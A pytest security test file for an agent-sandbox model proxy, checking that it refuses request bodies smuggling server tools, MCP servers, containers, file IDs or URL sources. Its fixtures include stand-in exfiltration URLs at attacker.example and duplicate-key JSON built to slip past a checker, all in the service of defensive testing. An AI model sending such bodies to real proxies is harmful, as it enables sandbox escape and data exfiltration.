"""The model proxy reads every request body whole and refuses what would make the model
provider act outside the sandbox for the agent (server tools, the MCP connector, containers,
stored files, URL sources): 400 naming the field and the setting that allows it, or 413 past
the size cap. A refused body never reaches the upstream: its TCP listener counts no
connection and the scripted model records no request. Raw sockets, so framings (chunked,
oversized, duplicate keys) arrive exactly as written."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from ashd.scripted.server import ScriptedModel
from tests.security.conftest import Agent
from tests.support.cutting_proxy import CuttingProxy, cutting_proxy
from tests.support.daemon import AshdProcess
from tests.support.model_proxy import Harness, status_of

Upstream = tuple[ScriptedModel, CuttingProxy]
CLI_BETAS = "claude-code-20250219,interleaved-thinking-2025-05-14,advanced-tool-use-2025-11-20,effort-2025-11-24"
CLIENT_TOOLS = [
    {"name": "Bash", "description": "run a command", "input_schema": {"type": "object", "properties": {
        "command": {"type": "string"}, "source": {"type": "string"}, "file_id": {"type": "string"}}}},
    {"name": "WebSearch", "description": "deferred", "input_schema": {"type": "object"}, "defer_loading": True},
    {"type": "custom", "name": "Mine", "input_schema": {"type": "object"}},
]


def messages_body(**extra: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"model": "claude-sonnet-4-5", "max_tokens": 100, "stream": False,
                            "messages": [{"role": "user", "content": [{"type": "text", "text": "[[say: hi]]"}]}]}
    body.update(extra)
    return body


def with_block(block: dict[str, Any]) -> dict[str, Any]:
    body = messages_body()
    body["messages"][0]["content"].insert(0, block)
    return body


FILE_SOURCE = {"type": "document", "source": {"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"}}
URL_SOURCE = {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?secret=1"}}
# (name, body, the field the refusal names, the name that would allow it)
SMUGGLED: list[tuple[str, dict[str, Any], str, str]] = [
    ("web_search", messages_body(tools=[*CLIENT_TOOLS, {"type": "web_search_20250305", "name": "web_search"}]),
     "tools[3].type", "web_search"),
    ("web_fetch", messages_body(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]), "tools[0].type",
     "web_fetch"),
    ("code_execution", messages_body(tools=[{"type": "code_execution_20250825", "name": "code_execution"}]),
     "tools[0].type", "code_execution"),
    ("tool_search", messages_body(tools=[{"type": "tool_search_tool_regex_20251119", "name": "s"}]),
     "tools[0].type", "tool_search_tool_regex"),
    ("mcp_toolset", messages_body(tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}]), "tools[0].type",
     "mcp_toolset"),
    ("client_defined", messages_body(tools=[{"type": "bash_20250124", "name": "bash"}]), "tools[0].type", "bash"),
    ("mcp_servers", messages_body(mcp_servers=[{"type": "url", "url": "https://attacker.example/mcp",
                                                "name": "x"}]), "mcp_servers", "mcp_servers"),
    ("container_id", messages_body(container="container_011CNha8"), "container", "container"),
    ("container_skills", messages_body(container={"skills": [{"type": "anthropic", "skill_id": "pptx"}]}),
     "container", "container"),
    ("file_source", with_block(FILE_SOURCE), "messages[0].content[0]", "files"),
    ("image_file_id", with_block({"type": "image", "source": {"type": "file", "file_id": "file_1"}}),
     "messages[0].content[0]", "files"),
    ("container_upload", with_block({"type": "container_upload", "file_id": "file_1"}), "messages[0].content[0]",
     "files"),
    ("in_tool_result", with_block({"type": "tool_result", "tool_use_id": "t1", "content": [FILE_SOURCE]}),
     "messages[0].content[0].content[0]", "files"),
    ("in_document", with_block({"type": "document", "source": {"type": "content", "content": [URL_SOURCE]}}),
     "messages[0].content[0].source.content[0]", "urls"),
    ("url_source", with_block(URL_SOURCE), "messages[0].content[0].source", "urls"),
    ("in_system", messages_body(system=[{"type": "text", "text": "x"}, FILE_SOURCE]), "system[1]", "files"),
]


class CapturingUpstream:
    """A one-request-at-a-time HTTP server that keeps the raw bytes of each request and
    answers ``{}``: shows what the proxy forwarded, byte for byte."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self.requests: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self._listener.accept()
            except OSError:
                return
            with conn:
                data = b""
                while b"\r\n\r\n" not in data and (chunk := conn.recv(65536)):
                    data += chunk
                head, _, body = data.partition(b"\r\n\r\n")
                length = int(next(line.split(b":")[1] for line in head.split(b"\r\n")
                                  if line.lower().startswith(b"content-length:")))
                while len(body) < length and (chunk := conn.recv(65536)):
                    body += chunk
                self.requests.append(head + b"\r\n\r\n" + body)
                conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}")

    def close(self) -> None:
        self._listener.close()


@pytest.fixture(scope="module")
def counted_upstream() -> Iterator[Upstream]:
    with ScriptedModel() as model, cutting_proxy(int(model.base_url.rsplit(":", 1)[1]), {}) as counter:
        yield model, counter


@pytest.fixture
def upstream(counted_upstream: Upstream) -> Upstream:
    model, counter = counted_upstream
    model.clear()
    counter.connections = 0
    return counted_upstream


@pytest.fixture
def harness(upstream: Upstream) -> Iterator[Harness]:
    h = Harness(f"http://127.0.0.1:{upstream[1].port}")
    yield h
    h.close()


def post(h: Harness, body: bytes, target: str = "/v1/messages", headers: str = "", chunk: int = 0) -> bytes:
    """Send one request as raw bytes (chunked in pieces of ``chunk`` bytes when given)."""
    head = (f"POST {target} HTTP/1.1\r\nhost: 127.0.0.1\r\nx-api-key: {h.token}\r\ncontent-type: application/json\r\n"
            "connection: close\r\n")  # h.raw reads the reply to the end of the connection
    if chunk:
        pieces = [body[i:i + chunk] for i in range(0, len(body), chunk)]
        data = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"
        return h.raw((head + f"transfer-encoding: chunked\r\n{headers}\r\n").encode() + data)
    return h.raw((head + f"content-length: {len(body)}\r\n{headers}\r\n").encode() + body)


def error_of(answer: bytes) -> dict[str, Any]:
    doc = json.loads(answer.split(b"\r\n\r\n", 1)[1])
    assert doc["type"] == "error", doc
    return doc["error"]  # type: ignore[no-any-return]


def nothing_reached(upstream: Upstream) -> None:
    model, counter = upstream
    assert counter.connections == 0, "the proxy opened a connection to the upstream"
    assert model.requests() == []


@pytest.mark.parametrize(("body", "field", "allow"), [case[1:] for case in SMUGGLED], ids=[c[0] for c in SMUGGLED])
@pytest.mark.parametrize("target", ["/v1/messages?beta=true", "/v1/messages/count_tokens"])
@pytest.mark.parametrize("chunk", [0, 1000], ids=["length", "chunked"])
def test_smuggled_features_never_reach_the_upstream(harness: Harness, upstream: Upstream, body: dict[str, Any],
                                                    field: str, allow: str, target: str, chunk: int) -> None:
    answer = post(harness, json.dumps(body).encode(), target, chunk=chunk)
    assert status_of(answer) == 400, answer[:400]
    error = error_of(answer)
    assert error["type"] == "invalid_request_error"
    assert field in error["message"] and "proxy.allowed_server_tools" in error["message"], error
    assert f'"{allow}"' in error["message"], error
    nothing_reached(upstream)


@pytest.mark.parametrize(("raw", "says"), [
    (b'{"model": "x", "messages": [', "not valid JSON"),
    (b'{"model": "x"} {"mcp_servers": [1]}', "not valid JSON"),
    (b'{"model": "\xff\xfe"}', "not UTF-8"),
    ('{"mcp_servers": [1]}'.encode("utf-16"), "not UTF-8"),
    (b'[{"mcp_servers": [1]}]', "JSON object"),
    (b"", "not valid JSON"),
    (b'{"tools": {"type": "web_search_20250305"}}', "tools must be a list"),
    (b'{"tools": ["web_search_20250305"]}', "tools[0] must be an object"),
    (b'{"messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "blob"}}]}]}',
     "source type"),
])
def test_malformed_bodies_are_refused(harness: Harness, upstream: Upstream, raw: bytes, says: str) -> None:
    answer = post(harness, raw)
    assert status_of(answer) == 400, answer[:400]
    assert says in error_of(answer)["message"]
    nothing_reached(upstream)


@pytest.mark.parametrize("chunk", [0, 16384], ids=["length", "chunked"])
def test_a_body_over_the_cap_is_refused_with_413(upstream: Upstream, chunk: int) -> None:
    h = Harness(f"http://127.0.0.1:{upstream[1].port}", max_request_bytes=64 * 1024)
    try:
        body = json.dumps(messages_body(system="x" * 100_000)).encode()
        answer = post(h, body, chunk=chunk)
        assert status_of(answer) == 413, answer[:400]
        error = error_of(answer)
        assert error["type"] == "request_too_large" and "proxy.max_request_bytes" in error["message"], error
        nothing_reached(upstream)
        assert status_of(post(h, json.dumps(messages_body(system="x" * 60_000)).encode(), chunk=chunk)) == 200
    finally:
        h.close()


def test_an_allowed_server_tool_is_forwarded_and_only_that_one(upstream: Upstream) -> None:
    h = Harness(f"http://127.0.0.1:{upstream[1].port}", allowed_server_tools="web_search")
    try:
        body = messages_body(tools=[*CLIENT_TOOLS, {"type": "web_search_20250305", "name": "web_search",
                                                    "max_uses": 8}])
        assert status_of(post(h, json.dumps(body).encode())) == 200
        assert upstream[0].requests()[-1].body == body
        upstream[0].clear()
        answer = post(h, json.dumps(messages_body(tools=[{"type": "web_fetch_20250910", "name": "f"}])).encode())
        assert status_of(answer) == 400 and '"web_fetch"' in error_of(answer)["message"]
        assert upstream[0].requests() == []
    finally:
        h.close()


@pytest.fixture
def capturing() -> Iterator[CapturingUpstream]:
    up = CapturingUpstream()
    yield up
    up.close()


def test_a_chunked_body_with_client_tools_is_forwarded_whole_with_its_length(capturing: CapturingUpstream) -> None:
    """The CLI's own kind of request passes; read whole, it goes upstream length-framed."""
    h = Harness(f"http://127.0.0.1:{capturing.port}")
    try:
        body = messages_body(tools=CLIENT_TOOLS, system=[{"type": "text", "text": "be brief"}])
        body["messages"][0]["content"].append({"type": "image", "source": {
            "type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}})
        answer = post(h, json.dumps(body).encode(), chunk=777)
        assert status_of(answer) == 200, answer[:400]
        head, _, sent = capturing.requests[-1].partition(b"\r\n\r\n")
        assert json.loads(sent) == body
        assert f"content-length: {len(sent)}".encode() in head.lower() and b"transfer-encoding" not in head.lower()
    finally:
        h.close()


@pytest.mark.parametrize("raw", [
    b'{"model": "m", "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp"}], "mcp_servers": null}',
    b'{"model": "m", "tools": [{"type": "web_search_20250305", "name": "w", "type": "custom"}]}',
    b'{"messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "u", '
    b'"type": "base64"}}]}]}',
])
def test_duplicate_keys_are_refused(harness: Harness, upstream: Upstream, raw: bytes) -> None:
    """Parsers disagree on which of two equal keys wins: the check would see the last value, a
    first-wins upstream the smuggled one. The proxy forwards bodies as received, so it refuses them."""
    answer = post(harness, raw, chunk=7)
    assert status_of(answer) == 400, answer[:400]
    assert "repeats the key" in error_of(answer)["message"]
    nothing_reached(upstream)


def conversation(turns: int, *extra: dict[str, Any]) -> dict[str, Any]:
    """The CLI's way: every call sends the whole conversation, with what is new last."""
    messages = [{"role": role, "content": [{"type": "text", "text": f"{role} {n}"}]}
                for n in range(turns) for role in ("user", "assistant")]
    return messages_body(tools=CLIENT_TOOLS, messages=[*messages, *({"role": "user", "content": [b]} for b in extra)])


def test_a_sandbox_repeating_its_conversation_is_still_checked_for_what_it_adds(harness: Harness,
                                                                                 upstream: Upstream) -> None:
    """The proxy does not parse again what a sandbox's last body that passed already had
    (ashd/proxy/body_memo.py); what is new is checked, in a new message or in an old one."""
    assert status_of(post(harness, json.dumps(conversation(3)).encode())) == 200
    assert status_of(post(harness, json.dumps(conversation(4)).encode())) == 200
    assert harness.gate.checked.skipped >= 6  # the messages of the first three turns, at least
    model, counter = upstream
    model.clear()
    counter.connections = 0
    changed = conversation(4)
    changed["messages"][1]["content"].append(FILE_SOURCE)
    for body, field in [(conversation(4, FILE_SOURCE), "messages[8].content[0]"), (changed, "messages[1].content[1]")]:
        answer = post(harness, json.dumps(body).encode())
        assert status_of(answer) == 400, answer[:400]
        assert field in error_of(answer)["message"], error_of(answer)
    nothing_reached(upstream)


@pytest.mark.parametrize(("allowed", "kept"), [
    ("", CLI_BETAS),
    ("web_fetch,files", CLI_BETAS + ",web-fetch-2025-09-10,files-api-2025-04-14"),
])
def test_betas_of_refused_features_are_dropped(capturing: CapturingUpstream, allowed: str, kept: str) -> None:
    h = Harness(f"http://127.0.0.1:{capturing.port}", allowed_server_tools=allowed)
    try:
        betas = (f"anthropic-beta: {CLI_BETAS},web-fetch-2025-09-10\r\n"
                 "anthropic-beta: mcp-client-2025-11-20,files-api-2025-04-14,code-execution-2025-08-25\r\n")
        assert status_of(post(h, json.dumps(messages_body()).encode(), headers=betas)) == 200
        head = capturing.requests[-1].partition(b"\r\n\r\n")[0].decode().lower().split("\r\n")
        assert [line for line in head if line.startswith("anthropic-beta:")] == [f"anthropic-beta: {kept}"]
    finally:
        h.close()


def test_a_refusal_is_logged_once_per_session_and_feature(harness: Harness, upstream: Upstream,
                                                          caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("WARNING", logger="ashd.proxy.model")
    for _ in range(3):
        answer = post(harness, json.dumps(SMUGGLED[6][1]).encode())
        assert status_of(answer) == 400
    lines = [r.getMessage() for r in caplog.records if "refused a request" in r.getMessage()]
    assert len(lines) == 1 and "s1" in lines[0] and "mcp_servers" in lines[0], lines
    nothing_reached(upstream)



def test_a_sandbox_has_at_most_two_bodies_read_at_once(harness: Harness, upstream: Upstream) -> None:
    """Bodies are held whole while read: an agent dripping large bodies on many connections
    must not make ashd hold one per connection. Two stalled bodies make the next request wait
    (it is answered once one of them goes away)."""
    head = (f"POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {harness.token}\r\n"
            "content-length: 1000000\r\n\r\n{\"model\": \"m\", ").encode()
    stalled = [socket.create_connection(("127.0.0.1", harness.port)) for _ in range(2)]
    try:
        for sock in stalled:
            sock.sendall(head)
        with socket.create_connection(("127.0.0.1", harness.port), timeout=30) as third:
            body = json.dumps(messages_body()).encode()
            third.sendall(f"POST /v1/messages HTTP/1.1\r\nhost: x\r\nx-api-key: {harness.token}\r\n"
                          f"content-length: {len(body)}\r\n\r\n".encode() + body)
            third.settimeout(1.0)
            with pytest.raises(TimeoutError):
                third.recv(1)  # waiting for a reading slot
            stalled[0].close()
            third.settimeout(30)
            assert third.recv(12) == b"HTTP/1.1 200"
    finally:
        for sock in stalled:
            sock.close()


def test_the_real_clis_web_search_is_refused_and_its_turns_go_on(tmp_path: Path) -> None:
    """Through a running ashd, the agent's own CLI: its WebSearch tool asks the provider for
    the server tool web_search in a side request; the proxy refuses it (nothing reaches the
    model), the tool reports the refusal to the model, and the session's turns go on."""
    agent = tmp_path / "agent"
    agent.mkdir()
    (agent / "CLAUDE.md").write_text("You are the body check test agent.\n")
    mount_root = Path("/run") / f"ashd-bodies-{uuid.uuid4().hex[:8]}"
    with ScriptedModel() as model:
        daemon = AshdProcess(tmp_path / "data", model.base_url, None,
                             {"ASH_SANDBOX_MOUNT_ROOT": str(mount_root)}).start()
        try:
            client = httpx.Client(base_url=daemon.url, headers=daemon.headers, timeout=60)
            client.post("/api/agents", json={"name": "bodies", "path": str(agent)}).raise_for_status()
            resp = client.post("/api/sessions", json={"agent": "bodies"})
            assert resp.status_code == 201, resp.text
            session = Agent(client, resp.json()["session"]["id"])
            session.turn('[[tool: ToolSearch {"query": "select:WebSearch", "max_results": 5}]]')
            events = session.turn('[[tool: WebSearch {"query": "ashd model proxy"}]]')
            results = json.dumps([d for n, d in events if n == "tool_result"])
            assert "ashd model proxy refused" in results and "proxy.allowed_server_tools" in results, events
            assert not [r for r in model.requests() if "web_search" in json.dumps((r.body or {}).get("tools"))]
            assert "after the refusal" in json.dumps(session.turn("[[say: after the refusal]]"))
            client.close()
        finally:
            daemon.stop(timeout=120)
            with contextlib.suppress(OSError):
                mount_root.rmdir()  # ashd removes what it made inside; the root is this test's
